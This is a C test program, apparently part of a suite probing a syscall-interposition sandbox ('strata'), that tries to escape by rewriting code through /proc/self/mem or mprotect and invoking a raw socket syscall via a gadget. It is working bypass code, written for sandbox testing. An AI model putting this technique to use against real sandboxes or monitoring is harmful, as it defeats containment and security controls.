/* Attack 9: rewrite code through /proc/self/mem (which writes even to
 * read-only text, as strata's own live rewriting does), then call out.
 *   a) libc's socket() is overwritten with `mov $41,%eax; jmp GADGET`, so
 *      an ordinary libc call goes straight into strata's syscall;ret;
 *   b) a `mov $41,%eax; syscall; ret` stub is written INTO strata-rt's text
 *      (the range Syscall User Dispatch exempts) and called.
 * The write is tried through a fresh open of /proc/self/mem, then any
 * /proc/PID/mem descriptor already open in the process (strata's), then by
 * making the page writable with mprotect through the gadget. Each variant
 * runs in a forked child (it wrecks code other things may need) and
 * reports through a pipe with the gadget only. Natively (a) patches libc
 * the same way and (b) writes the stub into libc's text. */
#include "attack.h"
#include <dirent.h>
#include <sys/mman.h>

static struct gadget g;

/* Writes `len` bytes at `addr` in this process; returns a description of how, or NULL. */
static const char *poke(void *addr, const void *bytes, size_t len) {
    long fd = gadget_call(g.addr, SYS_openat, AT_FDCWD, (long)"/proc/self/mem", O_RDWR, 0, 0, 0);
    if (fd >= 0) {
        long w = gadget_call(g.addr, SYS_pwrite64, fd, (long)bytes, len, (long)addr, 0, 0);
        gadget_call(g.addr, SYS_close, fd, 0, 0, 0, 0, 0);
        if (w == (long)len)
            return "a fresh open of /proc/self/mem";
    }
    printf("  open(/proc/self/mem, O_RDWR) through the gadget = %ld%s%s\n", fd, fd < 0 ? " -" : "", fd < 0 ? errname(-fd) : "");
    for (int i = 0; i < 1024; i++) {
        char link[64], target[256];
        snprintf(link, sizeof link, "/proc/self/fd/%d", i);
        ssize_t k = readlink(link, target, sizeof target - 1);
        if (k <= 0)
            continue;
        target[k] = 0;
        if (strncmp(target, "/proc/", 6) != 0 || !ends_with(target, "/mem"))
            continue;
        long w = gadget_call(g.addr, SYS_pwrite64, i, (long)bytes, len, (long)addr, 0, 0);
        if (w == (long)len)
            return "an inherited /proc/PID/mem descriptor";
    }
    uintptr_t page = (uintptr_t)addr & ~4095UL;
    size_t span = ((uintptr_t)addr + len + 4095 - page) & ~4095UL;
    long r = gadget_call(g.addr, SYS_mprotect, page, span, PROT_READ | PROT_WRITE | PROT_EXEC, 0, 0, 0);
    if (r == 0) {
        memcpy(addr, bytes, len);
        gadget_call(g.addr, SYS_mprotect, page, span, PROT_READ | PROT_EXEC, 0, 0, 0);
        return "mprotect RWX through the gadget";
    }
    printf("  mprotect(RWX) through the gadget = -%s\n", errname(-r));
    return NULL;
}

static void report(int fd, long res) { gadget_call(g.addr, SYS_write, fd, (long)&res, sizeof res, 0, 0, 0); }

static void patch_libc_socket(int fd) {
    unsigned char code[18] = {0xb8, 41, 0, 0, 0, 0x49, 0xbb}; /* mov $41,%eax; movabs $gadget,%r11 */
    memcpy(code + 7, &g.addr, 8);
    code[15] = 0x41, code[16] = 0xff, code[17] = 0xe3; /* jmp *%r11 */
    void *target = (void *)&socket;
    const char *how = poke(target, code, sizeof code);
    if (!how)
        report(fd, -100000);
    printf("  libc socket() at %p overwritten through %s\n", target, how ? how : "(nothing worked)");
    int s = socket(AF_INET, SOCK_STREAM, 0); /* the patched code returns the raw result */
    report(fd, s);
}

static void stub_in_text(int fd) {
    static struct mapping maps[512];
    int n = read_maps(maps, 512);
    struct mapping *text = NULL;
    for (int i = 0; i < n; i++)
        if (strcmp(maps[i].perms, "r-xp") == 0 && strcmp(maps[i].path, g.path) == 0 &&
            (uintptr_t)g.addr >= maps[i].start && (uintptr_t)g.addr < maps[i].end)
            text = &maps[i];
    if (!text) {
        report(fd, -100000);
        return;
    }
    /* 64 bytes clear of the gadget, which the reports still need. */
    unsigned char *where = (unsigned char *)text->start;
    if ((unsigned char *)g.addr - where < 64)
        where = (unsigned char *)g.addr + 64;
    static const unsigned char stub[] = {0xb8, 41, 0, 0, 0, 0x0f, 0x05, 0xc3};
    const char *how = poke(where, stub, sizeof stub);
    if (!how) {
        report(fd, -100000);
        return;
    }
    long (*sock)(long, long, long) = (long (*)(long, long, long))where;
    report(fd, sock(AF_INET, SOCK_STREAM, 0));
    /* (strata's code was overwritten: this line may never appear) */
    printf("  stub written at %p in %s's text through %s\n", where, g.where, how);
}

static int variant(const char *what, void (*fn)(int)) {
    int p[2];
    if (pipe(p) != 0)
        setup_failed("pipe");
    pid_t pid = fork();
    if (pid < 0)
        setup_failed("fork");
    if (pid == 0) {
        close(p[0]);
        fn(p[1]);
        gadget_call(g.addr, SYS_exit_group, 0, 0, 0, 0, 0, 0);
    }
    close(p[1]);
    long res;
    int esc = 0, got = 0;
    while (read(p[0], &res, sizeof res) == sizeof res) {
        got = 1;
        if (res == -100000)
            printf("%s: could not write the code -> blocked\n", what);
        else
            esc |= attempt(what, res);
    }
    close(p[0]);
    int status;
    waitpid(pid, &status, 0);
    if (!got)
        printf("%s: the child reported nothing (status %#x) -> blocked\n", what, status);
    return esc;
}

int main(void) {
    g = find_gadget();
    int esc = 0;
    esc |= variant("libc socket(AF_INET) patched to jump to the gadget", patch_libc_socket);
    esc |= variant("socket(AF_INET) stub written into the gadget's text", stub_in_text);
    return verdict(esc);
}
